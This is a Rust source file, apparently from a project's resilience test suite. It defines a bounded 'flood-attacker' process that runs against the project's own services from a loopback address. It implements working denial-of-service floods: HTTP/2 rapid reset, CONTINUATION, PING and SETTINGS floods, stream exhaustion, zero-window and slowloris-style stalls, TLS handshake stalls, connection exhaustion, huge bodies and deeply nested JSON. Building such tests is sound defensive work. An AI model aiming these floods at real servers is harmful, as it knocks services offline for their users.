//! The attacker: a process of its own, so that what it costs is not the target's nor its users'. It
//! comes from an address of its own and is bounded in connections, pace and time.

use std::{
    net::{IpAddr, Ipv4Addr, SocketAddr},
    path::PathBuf,
    time::Duration,
};

use anyhow::{Context as _, Result};
use serde::{Deserialize, Serialize};
use strata_config::{Environment, trust_domain};
use strata_core::Layer;
use strata_estate::Pki;
use strata_testkit::{Credential, Dialer};
use tokio::{
    io::{AsyncRead, AsyncWriteExt as _, copy, sink, split},
    time::{Instant, sleep, timeout_at},
};

use super::{
    attacks::{At, Flood, SIGNED_IN},
    frames::{
        CONTINUATION, DATA, END_HEADERS, HEADERS, NO_WINDOW, PING, PREFACE, SETTINGS, WHOLE, block,
        field, frame, reset, stream,
    },
};

/// How this binary is told to be an attacker: the argument after it is the plan, as JSON.
pub(crate) const ROLE: &str = "flood-attacker";
/// Not the address of honest clients.
const SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));
/// Connections that write as fast as the pace allows.
const WRITERS: usize = 8;
/// Connections that wait.
const WAITERS: usize = 200;
/// More connections than an address may have of the flooded services.
const MANY: usize = 900;
/// Between two batches of a writer.
const PACE: Duration = Duration::from_millis(5);
/// Before a connection that was closed is made anew.
const AGAIN: Duration = Duration::from_millis(200);

/// What to do, and to whom.
#[derive(Serialize, Deserialize)]
pub(crate) struct Plan {
    pub(crate) flood: String,
    pub(crate) at_edge: bool,
    pub(crate) address: SocketAddr,
    pub(crate) seconds: u64,
    /// The folder of the estate's PKI.
    pub(crate) pki: PathBuf,
    /// A user's token, at an edge.
    pub(crate) token: String,
}

impl Plan {
    /// A flood of whatever is at `address`.
    pub(crate) fn of(flood: &Flood, address: SocketAddr, pki: PathBuf, token: &str) -> Self {
        Self {
            flood: flood.name.to_owned(),
            at_edge: flood.at == At::Edge,
            address,
            seconds: flood.lasts.as_secs(),
            pki,
            token: token.to_owned(),
        }
    }
}

/// Carries out a plan, and ends.
pub(crate) async fn run(plan: &str) -> Result<()> {
    let plan: Plan = serde_json::from_str(plan)?;
    let pki = Pki::open(&plan.pki, Environment::Dev)?;
    let dialer = if plan.at_edge {
        Dialer::edge(&pki.edge_ca(), &[])?
    } else {
        let domain = trust_domain(Layer::Process, Environment::Dev)?;
        let caller = domain.workload("customer-overview")?;
        Dialer::hop(&pki, &Credential::honest(&pki, &caller)?)?
    };
    let attacker = Attacker {
        dialer: dialer.from(SOURCE),
        address: plan.address,
        until: Instant::now() + Duration::from_secs(plan.seconds),
        token: plan.flood.ends_with(SIGNED_IN).then_some(plan.token),
    };
    let flood = plan.flood.trim_end_matches(SIGNED_IN);
    attacker.attack(flood).await
}

#[derive(Clone)]
struct Attacker {
    dialer: Dialer,
    address: SocketAddr,
    until: Instant,
    /// Of a user who has signed in.
    token: Option<String>,
}

impl Attacker {
    async fn attack(self, flood: &str) -> Result<()> {
        let all: Vec<u8> = match flood {
            "R1 rapid reset" => {
                return self
                    .writers(&[], |round| {
                        let streams = (0..100).map(|at| stream(100 * round + at));
                        streams
                            .flat_map(|id| {
                                [frame(HEADERS, WHOLE, id, &self.head("GET")), reset(id)].concat()
                            })
                            .collect()
                    })
                    .await;
            }
            "R2 continuation" => {
                return self
                    .writers(&[], |round| {
                        if round == 0 {
                            return frame(HEADERS, 1, 1, &self.head("GET"));
                        }
                        frame(CONTINUATION, 0, 1, &field("x", "y").repeat(20)).repeat(50)
                    })
                    .await;
            }
            "R3 pings" => {
                return self
                    .writers(&[], |_| frame(PING, 0, 0, &[0; 8]).repeat(500))
                    .await;
            }
            "R3 settings" => {
                return self
                    .writers(&[], |_| frame(SETTINGS, 0, 0, &[]).repeat(500))
                    .await;
            }
            "R3 empty data" => {
                return self
                    .writers(&[], |round| {
                        if round == 0 {
                            return frame(HEADERS, END_HEADERS, 1, &self.head("POST"));
                        }
                        frame(DATA, 0, 1, &[]).repeat(500)
                    })
                    .await;
            }
            "R4 5,000 streams" => {
                return self
                    .writers(&[], |round| {
                        let streams = (0..5_000).map(|at| stream(5_000 * round + at));
                        streams
                            .flat_map(|id| frame(HEADERS, END_HEADERS, id, &self.head("POST")))
                            .collect()
                    })
                    .await;
            }
            "R9 huge head" => {
                return self
                    .writers(&[], |round| {
                        let huge = block(&[("x", &"y".repeat(8 * 1024))]);
                        let id = stream(round);
                        [
                            frame(HEADERS, 1, id, &self.head("GET")),
                            frame(CONTINUATION, 0, id, &huge),
                            frame(CONTINUATION, 0, id, &huge),
                            frame(CONTINUATION, END_HEADERS, id, &huge),
                        ]
                        .concat()
                    })
                    .await;
            }
            "R5 no window" => {
                return self
                    .waiters(WAITERS, |_| {
                        let hello = frame(SETTINGS, 0, 0, NO_WINDOW);
                        let asks = frame(HEADERS, WHOLE, 1, &self.head("GET"));
                        [PREFACE.to_vec(), hello, asks].concat()
                    })
                    .await;
            }
            "R7 silence" => return self.waiters(WAITERS, |_| Vec::new()).await,
            "R8 slow head" => return self.dribblers(b"GET / HTTP/1.1\r\nhost: a\r\nx: ").await,
            "R8 slow body" => {
                let head = format!(
                    "PATCH /v1/me/contact HTTP/1.1\r\nhost: localhost\r\nauthorization: {}\r\n\
                     content-type: application/json\r\ncontent-length: 100000\r\n\r\n",
                    self.bearer()
                );
                return self.dribblers(head.as_bytes()).await;
            }
            "R6 handshake stall" => return self.sockets(WAITERS, &[22, 3, 1, 2, 0, 1]).await,
            "R13 connections" => return self.sockets(MANY, &[]).await,
            "R10 huge body" => vec![b' '; 4 << 20],
            "R12 deep JSON" => [b"{\"email\":".to_vec(), b"[".repeat(10_000)].concat(),
            other => anyhow::bail!("there is no flood {other}"),
        };
        self.bodies(&all).await
    }

    fn bearer(&self) -> String {
        format!("Bearer {}", self.token.as_deref().unwrap_or_default())
    }

    /// The head of a request.
    fn head(&self, method: &str) -> Vec<u8> {
        let path = match method {
            "GET" => "/v1/me/overview",
            _ => "/v1/me/contact",
        };
        let bearer = self.bearer();
        let mut fields = vec![
            (":method", method),
            (":scheme", "https"),
            (":path", path),
            (":authority", "localhost"),
        ];
        if self.token.is_some() {
            fields.push(("authorization", &bearer));
        }
        block(&fields)
    }

    /// Connections that write `batch(0)`, `batch(1)` and so on, and read nothing of the answers but
    /// whether the connection is over.
    async fn writers(&self, settings: &[u8], batch: impl Fn(u32) -> Vec<u8>) -> Result<()> {
        // Made before: the attacker's own work is not what is measured.
        let hello = [PREFACE.to_vec(), frame(SETTINGS, 0, 0, settings)].concat();
        let batches: Vec<Vec<u8>> = (0..64).map(batch).collect();
        self.many(WRITERS, async |attacker| {
            let mut connection = attacker.dialer.connect(attacker.address).await?;
            connection.write_all(&hello).await?;
            // Past the last, from the second on: what must grow has grown enough to be refused.
            for batch in batches.iter().chain(batches.iter().skip(1).cycle()) {
                connection.write_all(batch).await?;
                connection.flush().await?;
                sleep(PACE).await;
            }
            Ok(())
        })
        .await
    }

    /// Connections that say something once and then wait to be closed.
    async fn waiters(&self, number: usize, hello: impl Fn(u32) -> Vec<u8>) -> Result<()> {
        let hello = hello(0);
        self.many(number, async |attacker| {
            let connection = attacker.dialer.connect(attacker.address).await?;
            let (reader, mut writer) = split(connection);
            writer.write_all(&hello).await?;
            writer.flush().await?;
            until_closed(reader).await
        })
        .await
    }

    /// Connections that go on with a byte now and then.
    async fn dribblers(&self, head: &[u8]) -> Result<()> {
        self.many(WAITERS, async |attacker| {
            let mut connection = attacker.dialer.connect(attacker.address).await?;
            connection.write_all(head).await?;
            loop {
                connection.write_all(b"y").await?;
                connection.flush().await?;
                sleep(Duration::from_millis(500)).await;
            }
        })
        .await
    }

    /// Sockets without TLS.
    async fn sockets(&self, number: usize, hello: &[u8]) -> Result<()> {
        self.many(number, async |attacker| {
            let mut socket = attacker.dialer.socket(attacker.address).await?;
            socket.write_all(hello).await?;
            until_closed(socket).await
        })
        .await
    }

    /// Whole requests with a body, one after another, each on a connection of its own.
    async fn bodies(&self, body: &[u8]) -> Result<()> {
        let head = format!(
            "PATCH /v1/me/contact HTTP/1.1\r\nhost: localhost\r\nauthorization: {}\r\n\
             connection: close\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            self.bearer(),
            body.len()
        );
        self.many(WRITERS, async |attacker| {
            let connection = attacker.dialer.connect(attacker.address).await?;
            let (reader, mut writer) = split(connection);
            let write = async {
                writer.write_all(head.as_bytes()).await?;
                writer.write_all(body).await?;
                writer.flush().await?;
                // A sink says nothing: the pace is then the attacker's own.
                sleep(AGAIN).await;
                anyhow::Ok(())
            };
            tokio::select! {
                written = write => written,
                closed = until_closed(reader) => closed,
            }
        })
        .await
    }

    /// Does the same over and over, `number` times at once, until time is up.
    async fn many<F>(&self, number: usize, one: F) -> Result<()>
    where
        F: AsyncFn(&Self) -> Result<()>,
    {
        let loops = (0..number).map(|_| async {
            let again = async {
                loop {
                    // Refused or closed: that is what a target is for.
                    let _over = one(self).await;
                    sleep(AGAIN).await;
                }
            };
            timeout_at(self.until, again).await
        });
        let _over: Vec<Result<(), _>> = futures_util::future::join_all(loops).await;
        Ok(())
    }
}

async fn until_closed(mut reader: impl AsyncRead + Unpin) -> Result<()> {
    copy(&mut reader, &mut sink()).await.context("closed")?;
    Ok(())
}
